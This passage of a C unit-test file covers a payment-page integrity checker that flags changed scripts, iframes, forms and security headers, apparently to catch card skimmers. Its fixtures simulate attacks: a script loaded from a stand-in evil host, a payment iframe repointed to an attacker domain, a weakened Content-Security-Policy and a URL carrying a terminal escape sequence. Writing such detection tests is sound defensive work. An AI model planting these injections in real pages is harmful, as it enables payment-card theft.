		"medium page.header_added Permissions-Policy\n");
	assert_string_equal(reason(&f, "page.header_changed"),
			    "security header <meta> Content-Security-Policy changed: "
			    "it was \"default-src 'self'\", now \"default-src *\"");
	assert_string_equal(f.v[2].reason,
			    "security header X-Frame-Options was removed (it was \"DENY\")");
	eg_page_findings_free(&f);
	eg_page_headers_free(&bh);
	eg_page_headers_free(&ch);
	eg_page_headers_free(&ch); /* twice is fine */
	eg_page_inv_free(base);
	eg_page_inv_free(cur);
}

static void test_iframes_links(void **state)
{
	(void)state;
	struct eg_page_inv *base = parse(
		"<iframe src=\"https://pay.psp.example/frame?session=1\"></iframe>\n"
		"<iframe src=\"https://www.youtube.example/embed/1\"></iframe>\n"
		"<link rel=stylesheet href=/a.css>\n");
	struct eg_page_inv *cur = parse(
		"<iframe src=\"https://pay.psp.example/frame?session=2\"></iframe>\n"
		"<iframe src=\"https://pay.evil.test/frame\"></iframe>\n"
		"<iframe src=\"/new\"></iframe>\n"
		"<link rel=stylesheet href=/a.css integrity=\"sha256-bhHHL3z2vDgxUt0W3dWQOrprscmda2Y5pLsLg4GF+pI=\">\n"
		"<link rel=modulepreload href=/m.js>\n");
	struct eg_page_findings f;
	compare(base, NULL, cur, NULL, &payment_pol, &f,
		"critical page.iframe_changed https://pay.evil.test/frame\n"
		"high page.iframe_added https://shop.example/new\n"
		"medium page.link_changed https://shop.example/a.css\n"
		"medium page.link_added https://shop.example/m.js\n");
	assert_string_equal(reason(&f, "page.iframe_changed"),
			    "iframe https://www.youtube.example/embed/1 now points to "
			    "https://pay.evil.test/frame (another host)");
	eg_page_findings_free(&f);
	compare(cur, NULL, base, NULL, NULL, &f,
		"high page.iframe_changed https://www.youtube.example/embed/1\n"
		"medium page.iframe_removed https://shop.example/new\n"
		"medium page.link_changed https://shop.example/a.css\n"
		"low page.link_removed https://shop.example/m.js\n");
	eg_page_findings_free(&f);
	eg_page_inv_free(base);
	eg_page_inv_free(cur);
}

static void test_limits(void **state)
{
	(void)state;
	/* More handlers than items kept: the inventory says it is partial,
	 * and that is a finding of its own. */
	struct eg_buf b;
	eg_buf_init(&b, 1u << 24);
	for (unsigned i = 0; i < EG_PAGE_MAX_ITEMS + 5; i++)
		eg_buf_addf(&b, "<i onclick=f(%u)>", i);
	eg_buf_adds(&b, "<script src=https://evil.test/late.js></script>");
	struct eg_page_inv *inv = parse_n(PAGE_URL, eg_buf_str(&b), b.len);
	assert_int_equal(inv->nitems, EG_PAGE_MAX_ITEMS);
	assert_true(inv->incomplete & EG_PAGE_INC_ITEMS);
	struct eg_page_findings f;
	struct eg_err e;
	eg_err_clear(&e);
	assert_int_equal(eg_page_compare(NULL, NULL, inv, NULL, NULL, &f, &e), 0);
	assert_int_equal(f.n, 1);
	assert_string_equal(f.v[0].id, "page.incomplete");
	assert_string_equal(f.v[0].severity, "high");
	eg_page_findings_free(&f);
	eg_page_inv_free(inv);
	/* A 1 MiB src is cut at the attribute limit and flagged. */
	eg_buf_reset(&b);
	eg_buf_adds(&b, "<script src=\"https://a.example/");
	for (unsigned i = 0; i < 1024u * 1024u; i++)
		eg_buf_addc(&b, 'a');
	eg_buf_adds(&b, "\"></script><script src=/after.js></script>");
	inv = parse_n(PAGE_URL, eg_buf_str(&b), b.len);
	assert_int_equal(inv->nitems, 2);
	assert_true(inv->items[0].flags & EG_PAGE_F_CUT);
	assert_int_equal(strlen(inv->items[0].src), EG_PAGE_MAX_ATTR_LEN);
	assert_true(inv->incomplete & EG_PAGE_INC_LENGTH);
	assert_string_equal(inv->items[1].url, "https://shop.example/after.js");
	eg_page_inv_free(inv);
	/* Too big a page is refused outright. */
	eg_err_clear(&e);
	inv = NULL;
	assert_int_equal(eg_page_parse(PAGE_URL, eg_buf_str(&b),
				       EG_PAGE_MAX_BYTES + 1u, &inv, &e),
			 EG_E_LIMIT);
	assert_null(inv);
	eg_buf_free(&b);
	/* A 10 MB attribute: the page is refused whole; one that fills the
	 * largest page allowed is read in one pass and cut. */
	size_t big = 10u * 1024u * 1024u;
	char *h = malloc(big + 64);
	assert_non_null(h);
	memcpy(h, "<a onclick=\"", 12);
	memset(h + 12, 'x', big);
	memcpy(h + 12 + big, "\">", 3);
	eg_err_clear(&e);
	assert_int_equal(eg_page_parse(PAGE_URL, h, big + 14, &inv, &e),
			 EG_E_LIMIT);
	assert_non_null(strstr(eg_err_msg(&e), PAGE_URL));
	memcpy(h + EG_PAGE_MAX_BYTES - 2, "\">", 2);
	inv = parse_n(PAGE_URL, h, EG_PAGE_MAX_BYTES);
	assert_int_equal(inv->nitems, 1);
	assert_int_equal(inv->items[0].length, EG_PAGE_MAX_ATTR_LEN);
	assert_true(inv->items[0].flags & EG_PAGE_F_CUT);
	eg_page_inv_free(inv);
	free(h);
}

static void test_json(void **state)
{
	(void)state;
	struct eg_page_inv *inv = parse(
		"<script src=\"https://js.psp.example/t.js\" async></script>"
		"<form method=post><input autocomplete=cc-csc></form>"
		"<a onclick=\"x\">");
	struct eg_buf b;
	eg_buf_init(&b, 1u << 20);
	struct eg_json j;
	eg_json_init(&j, &b, 0);
	eg_page_inv_json(&j, inv);
	assert_int_equal(eg_json_finish(&j), 0);
	assert_string_equal(eg_buf_str(&b),
		"{\"url\":\"https://shop.example/shopping/payment\","
		"\"origin\":\"https://shop.example\",\"bytes\":124,\"complete\":true,"
		"\"scripts\":[{\"line\":1,\"inline\":false,"
		"\"src\":\"https://js.psp.example/t.js\","
		"\"url\":\"https://js.psp.example/t.js\",\"host\":\"js.psp.example\","
		"\"same_origin\":false,\"type\":null,\"data\":false,\"module\":false,"
		"\"async\":true,\"defer\":false,\"nomodule\":false,\"integrity\":null,"
		"\"sri\":\"none\",\"sri_hashes\":null,\"crossorigin\":null,"
		"\"sha256\":null,\"length\":0,\"content_sha256\":null,"
		"\"sri_match\":null,\"cut\":false}],"
		"\"iframes\":[],\"links\":[],"
		"\"forms\":[{\"line\":1,\"action\":null,"
		"\"url\":\"https://shop.example/shopping/payment\","
		"\"host\":\"shop.example\",\"same_origin\":true,\"method\":\"post\","
		"\"id\":null,\"formaction\":false,\"card_fields\":[\"csc\"],"
		"\"cut\":false}],"
		"\"handlers\":[{\"line\":1,\"element\":\"a\",\"attribute\":\"onclick\","
		"\"sha256\":\"2d711642b726b04401627ca9fbac32f5c8530fb1903cc4db02258717921a4881\","
		"\"length\":1,\"cut\":false}],"
		"\"javascript_urls\":[],\"csp\":[],\"base\":[]}\n");
	eg_buf_reset(&b);
	/* Findings: hostile text stays data, escaped by the writer. */
	struct eg_page_inv *cur = parse("<script src=\"https://e.test/\x1b[31m\"></script>");
	struct eg_page_findings f;
	struct eg_err e;
	eg_err_clear(&e);
	assert_int_equal(eg_page_compare(NULL, NULL, cur, NULL, NULL, &f, &e), 0);
	eg_json_init(&j, &b, 0);
	eg_page_findings_json(&j, &f);
	assert_int_equal(eg_json_finish(&j), 0);
	assert_string_equal(eg_buf_str(&b),
		"[{\"id\":\"page.script_no_sri\",\"severity\":\"medium\","
		"\"subject\":\"https://e.test/\\u001b[31m\","
		"\"reason\":\"script https://e.test/\\u001b[31m from another origin "
		"has no integrity attribute: add Subresource Integrity "
		"(integrity=\\\"sha384-...\\\") so that a changed file is refused\"}]\n");
	eg_page_findings_free(&f);
	eg_page_inv_free(cur);
	eg_buf_free(&b);
	eg_page_inv_free(inv);
}

static void test_inv_add(void **state)
{
	(void)state;
	struct eg_page_inv *inv = NULL;
	struct eg_err e;
	eg_err_clear(&e);
	assert_int_equal(eg_page_inv_new(PAGE_URL, &inv, &e), 0);
	struct eg_page_item it;
	memset(&it, 0, sizeof(it));
	it.kind = EG_PAGE_SCRIPT;
	it.url = "https://a.example/x.js";
	assert_int_equal(eg_page_inv_add(inv, &it), 0);
	snprintf(it.sha256, sizeof(it.sha256), "%s", "XYZ");
	assert_int_equal(eg_page_inv_add(inv, &it), EG_E_INVAL);
	it.sha256[0] = '\0';
	it.kind = 99;
	assert_int_equal(eg_page_inv_add(inv, &it), EG_E_INVAL);
	assert_int_equal(inv->nitems, 1);
	assert_string_equal(inv->items[0].url, "https://a.example/x.js");
	assert_true(inv->items[0].url != it.url);
	assert_int_equal(eg_page_kind_parse("jsurl"), EG_PAGE_JSURL);
	assert_int_equal(eg_page_kind_parse("nope"), -1);
	assert_string_equal(eg_page_kind_name(EG_PAGE_CSP), "csp");
	eg_page_inv_free(inv);
	eg_page_inv_free(NULL);
	eg_page_findings_free(NULL);
	/* Allowed hosts: exact (any case) or subdomains of "*.domain". */
	static const char *const l[] = {"JS.psp.example", "*.cdn.example", NULL};
	assert_int_equal(eg_page_host_allowed("js.psp.example", l, 3), 1);
	assert_int_equal(eg_page_host_allowed("x.js.psp.example", l, 3), 0);
	assert_int_equal(eg_page_host_allowed("a.b.cdn.example", l, 3), 1);
	assert_int_equal(eg_page_host_allowed("cdn.example", l, 3), 0);
	assert_int_equal(eg_page_host_allowed("evilcdn.example", l, 3), 0);
	assert_int_equal(eg_page_host_allowed(NULL, l, 3), 0);
	assert_int_equal(eg_page_host_allowed("js.psp.example", l, 0), 0);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_eccube_inventory),
		cmocka_unit_test(test_magecart_injected),
		cmocka_unit_test(test_inline_one_byte),
		cmocka_unit_test(test_form_repointed),
		cmocka_unit_test(test_sri),
		cmocka_unit_test(test_quoting),
		cmocka_unit_test(test_tokenizer_states),
		cmocka_unit_test(test_handlers_and_js_urls),
		cmocka_unit_test(test_urls),
		cmocka_unit_test(test_card_fields),
		cmocka_unit_test(test_headers),
		cmocka_unit_test(test_iframes_links),
		cmocka_unit_test(test_limits),
		cmocka_unit_test(test_json),
		cmocka_unit_test(test_inv_add),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
